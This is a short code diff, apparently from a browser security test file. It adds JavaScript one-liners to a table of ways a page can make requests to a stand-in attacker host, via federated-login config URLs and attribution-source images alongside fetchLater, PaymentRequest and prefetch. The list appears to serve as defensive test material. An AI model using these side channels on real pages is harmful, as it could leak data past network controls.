@@ -103,6 +103,8 @@ NOISE = {
     "rules that a header names": "0",
     "a later request": f"fetchLater('{EVIL}/later', {{method: 'POST', body: '1', activateAfter: 0}})",
     "a way to pay": f"new PaymentRequest([{{supportedMethods: '{EVIL}/pay'}}], {{total: {{label: 'x', amount: {{currency: 'USD', value: '1'}}}}}}).canMakePayment()",
+    "a login of another site": f"navigator.credentials?.get({{identity: {{providers: [{{configURL: '{EVIL}/login.json', clientId: '1'}}]}}}})",
+    "a picture that attributes": f"document.body.append(Object.assign(document.createElement('img'), {{attributionSrc: '{EVIL}/attributed', src: '/p.png'}}))",
     "a link's hint": f"document.head.append(Object.assign(document.createElement('link'), {{rel: 'prefetch', href: '{EVIL}/hint'}}))",
 }  # fmt: skip
 
